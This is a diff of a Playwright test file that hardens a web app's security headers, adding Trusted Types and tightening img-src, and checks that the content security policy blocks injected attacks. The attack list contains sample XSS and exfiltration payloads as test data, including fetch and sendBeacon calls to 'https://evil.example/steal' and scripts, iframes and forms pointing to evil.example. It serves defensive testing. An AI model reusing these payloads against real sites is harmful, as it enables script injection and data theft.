@@ -13,7 +13,7 @@ const commonHeaders = {
     "object-src 'none'",
     "script-src 'self'",
     "style-src 'self' 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='",
-    "img-src 'self' data: https:",
+    "img-src 'self' data:",
     "font-src 'self'",
     "manifest-src 'self'",
     "worker-src 'self'",
@@ -21,6 +21,8 @@ const commonHeaders = {
     "frame-src 'none'",
     "form-action 'self'",
     "frame-ancestors 'none'",
+    "require-trusted-types-for 'script'",
+    'trusted-types default',
   ].join('; '),
   'strict-transport-security': 'max-age=63072000; includeSubDomains; preload',
   'x-content-type-options': 'nosniff',
@@ -28,72 +30,58 @@ const commonHeaders = {
   'referrer-policy': 'strict-origin-when-cross-origin',
   'cross-origin-opener-policy': 'same-origin',
   'cross-origin-resource-policy': 'same-origin',
+  'cross-origin-embedder-policy': 'credentialless',
   'permissions-policy': 'camera=(), microphone=(), payment=(), usb=(), geolocation=(self)',
 };
 const [pageCaching, assetCaching] = ['no-cache', 'public, max-age=31536000, immutable'];
 
-for (const [name, path, status, type, caching] of [
-  ['the home page', '/', 200, /^text\/html/, pageCaching],
-  ['a page', '/find-group', 200, /^text\/html/, pageCaching],
-  ['a deep link', '/Manage-group/64a7f0c2e1b5d83f9a6c0001', 200, /^text\/html/, pageCaching],
-  ['a page with a query', '/managed-groups?tab=joined', 200, /^text\/html/, pageCaching],
-  ['index.html', '/index.html', 200, /^text\/html/, pageCaching],
-  ['an unknown page', '/nowhere', 200, /^text\/html/, pageCaching],
-  ['an asset', `/assets/${scripts[0]}`, 200, /javascript/, assetCaching],
-  ['a missing asset', '/assets/missing-0a1b2c3d.js', 404, /^text\/plain/, assetCaching],
-] as const) {
-  test(`${name} returns ${status} with all headers`, async ({ request }) => {
-    const response = await request.get(path);
-    expect(response.status()).toBe(status);
-    const headers = response.headers();
-    expect(headers).toMatchObject({ ...commonHeaders, 'cache-control': caching });
-    expect(headers['content-type']).toMatch(type);
-    expect(JSON.stringify(headers)).not.toContain('%');
-  });
-}
+const responses: [path: string, status: number, type: RegExp, caching: string | undefined][] = [
+  ['/', 200, /^text\/html/, pageCaching],
+  ['/find-group', 200, /^text\/html/, pageCaching],
+  ['/Manage-group/64a7f0c2e1b5d83f9a6c0001', 200, /^text\/html/, pageCaching],
+  ['/managed-groups?tab=joined', 200, /^text\/html/, pageCaching],
+  ['/index.html', 200, /^text\/html/, pageCaching],
+  ['/nowhere', 200, /^text\/html/, pageCaching],
+  [`/assets/${scripts[0]}`, 200, /javascript/, assetCaching],
+  ['/assets/missing-0a1b2c3d.js', 404, /^text\/plain/, 'no-store'],
+];
+
+test('pages and assets are sent with all headers', async ({ request }) => {
+  for (const [path, status, type, caching] of responses) {
+    await test.step(path, async () => {
+      const response = await request.get(path);
+      expect(response.status()).toBe(status);
+      const headers = response.headers();
+      expect(headers).toMatchObject({ ...commonHeaders, 'cache-control': caching });
+      expect(headers['content-type']).toMatch(type);
+      expect(JSON.stringify(headers)).not.toContain('%');
+    });
+  }
+});
 
 test('the live build contains no mock code or data', async () => {
-  expect(readdirSync(dist)).not.toContain('mockServiceWorker.js');
   expect(readdirSync(dist)).not.toContain('hosted-checkout.html');
   for (const name of scripts) {
     const code = readFileSync(new URL(`assets/${name}`, dist), 'utf8');
     // Texts that only the mocks contain.
-    for (const marker of ['olivia.carter', 'captain1', 'Austin Spirit', 'mockServiceWorker', 'Multnomah County'])
+    for (const marker of ['olivia.carter', 'captain1', 'Austin Spirit', 'No mock answers', 'Multnomah County'])
       expect(code, name).not.toContain(marker);
   }
 });
 
-test('component styles are applied under the content security policy', async ({ page }) => {
+test('component styles are applied under the content security policy, and no cookies set', async ({ page }) => {
   await page.goto('/login');
   const login = page.getByRole('button', { name: 'Login', exact: true });
   await expect(login).toHaveCSS('font-family', /Figtree/);
   await expect(login).not.toHaveCSS('background-color', 'rgb(239, 239, 239)');
   await expect(login).not.toHaveCSS('border-radius', '0px');
-});
-
-test('the app sets no cookies', async ({ page }) => {
-  await page.goto('/login');
-  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
   expect(await page.context().cookies()).toEqual([]);
 });
 
 test.describe('content security policy', () => {
   // The browser logs each violation to the console, which fails other tests.
-  test.use({ allowedErrors: [/Content Security Policy/] });
+  test.use({ allowedErrors: [/Content Security Policy|Trusted/i] });
 
-  const attacks: [name: string, directive: string, code: string][] = [
-    ['an inline script', 'script-src-elem', "add('script', { textContent: 'window.__pwned = 1' })"],
-    ['an inline event handler', 'script-src-attr', 'html(\'<img src="x:" onclick="window.__pwned = 1">\').click()'],
-    // The browser exempts code evaluated directly by `page.evaluate`, hence the timer.
-    ['eval', 'script-src', "setTimeout(() => eval('window.__pwned = 1'))"],
-    ['a script from another origin', 'script-src-elem', "add('script', { src: 'https://evil.example/x.js' })"],
-    ['an inline style element', 'style-src-elem', "html('<style>body { display: none }</style>')"],
-    ['a fetch to another origin', 'connect-src', "fetch('https://evil.example/steal').catch(() => undefined)"],
-    ['a beacon to another origin', 'connect-src', "navigator.sendBeacon('https://evil.example/steal')"],
-    ['an iframe', 'frame-src', "add('iframe', { src: 'https://evil.example/' })"],
-    ['a base element', 'base-uri', "add('base', { href: 'https://evil.example/' })"],
-    ['a form submission to another origin', 'form-action', "add('form', { action: 'https://evil.example/' }).submit()"],
-  ];
   const helpers = `
     const add = (name, properties) => {
       const element = Object.assign(document.createElement(name), properties);
@@ -105,15 +93,47 @@ test.describe('content security policy', () => {
       return document.body.lastElementChild;
     };`;
 
-  for (const [name, directive, code] of attacks) {
-    test(`blocks ${name}`, async ({ page }) => {
-      await page.goto('/login');
-      const heading = page.getByRole('heading', { level: 1, name: 'Login' });
-      await expect(heading).toBeVisible();
-      expect(await findViolatedDirective(page, `{ ${helpers} ${code} }`)).toBe(directive);
-      expect(await page.evaluate('window.__pwned')).toBeUndefined();
-      expect(await page.evaluate('document.body.innerText')).toContain('Find your squad');
-    });
+  test('blocks attacks also in browsers without Trusted Types', async ({ page }) => {
+    await withoutTrustedTypes(page);
+    await expectBlocked(page, [
+      ['script-src-elem', "add('script', { textContent: 'window.__pwned = 1' })"],
+      ['script-src-attr', 'html(\'<img src="x:" onclick="window.__pwned = 1">\').click()'],
+      ['script-src', "eval('window.__pwned = 1')"],
+      ['script-src-elem', "add('script', { src: 'https://evil.example/x.js' })"],
+      ['style-src-elem', "html('<style>body { display: none }</style>')"],
+      ['connect-src', "fetch('https://evil.example/steal').catch(() => undefined)"],
+      ['connect-src', "navigator.sendBeacon('https://evil.example/steal')"],
+      ['img-src', "add('img', { src: 'https://evil.example/pixel.png' })"],
+      ['frame-src', "add('iframe', { src: 'https://evil.example/' })"],
+      ['base-uri', "add('base', { href: 'https://evil.example/' })"],
+      ['form-action', "add('form', { action: 'https://evil.example/' }).submit()"],
+    ]);
+  });
+
+  test('refuses text where the browser expects Trusted Types', async ({ page }) => {
+    await expectBlocked(page, [
+      ['require-trusted-types-for', "html('<b>bold</b>')"],
+      ['require-trusted-types-for', "document.body.innerHTML = '<b>bold</b>'"],
+      ['require-trusted-types-for', "add('script', { textContent: 'window.__pwned = 1' })"],
+      ['require-trusted-types-for', "add('script', { src: 'https://evil.example/x.js' })"],
+      ['require-trusted-types-for', "add('script', { src: 'https://js.stripe.com/v3' })"],
+      ['require-trusted-types-for', "add('iframe', { srcdoc: '<b>bold</b>' })"],
+      ['require-trusted-types-for', "eval('window.__pwned = 1')"],
+      ['trusted-types', "trustedTypes.createPolicy('other', {})"],
+      ['trusted-types', "trustedTypes.createPolicy('default', {})"],
+    ]);
+  });
+
+  /** Runs each attack; the page reports a violation of the directive, and looks as before. */
+  async function expectBlocked(page: Page, attacks: [directive: string, code: string][]) {
+    await page.goto('/login');
+    await expect(page.getByRole('heading', { level: 1, name: 'Login' })).toBeVisible();
+    for (const [directive, code] of attacks) {
+      expect(await findViolatedDirective(page, `{ ${helpers} ${code} }`), code).toBe(directive);
+    }
+    expect(await page.evaluate('window.__pwned')).toBeUndefined();
+    // Not a locator: it would wait for the form's blocked navigation.
+    expect(await page.evaluate('document.body.innerText')).toContain('Find your squad');
   }
 
   test('another page cannot embed the app in an iframe', async ({ page, baseURL }) => {
@@ -126,6 +146,18 @@ test.describe('content security policy', () => {
   });
 });
 
+test.describe('in the service worker', () => {
+  test.use({ serviceWorkers: 'allow' });
+
+  // Expected to fail: it shows that the fixture sees what a worker may not do.
+  test.fail('a violation fails its test', async ({ page, context }) => {
+    await page.goto('/login');
+    const worker = context.waitForEvent('serviceworker');
+    await page.evaluate(() => navigator.serviceWorker.register('/serviceWorker.js'));
+    await (await worker).evaluate(() => fetch('https://evil.example/').catch(() => undefined));
+  });
+});
+
 /** Runs the code and returns the directive of the first policy violation. */
 async function findViolatedDirective(page: Page, code: string): Promise<string> {
   const violation = page.evaluate(
@@ -134,6 +166,17 @@ async function findViolatedDirective(page: Page, code: string): Promise<string> 
         addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
       }),
   );
-  await page.evaluate(code);
+  // The browser exempts code that is evaluated directly, hence the timer.
+  await page.evaluate(`void setTimeout(() => { try { ${code} } catch {} })`);
   return violation;
+}
+
+/** Serves pages with the rest of the policy only. */
+async function withoutTrustedTypes(page: Page) {
+  await page.route('/login', async (route) => {
+    const response = await route.fetch();
+    const policy = response.headers()['content-security-policy'] ?? '';
+    const rest = policy.replace(/; [a-z-]*trusted-types[^;]*/g, '');
+    await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': rest } });
+  });
 }
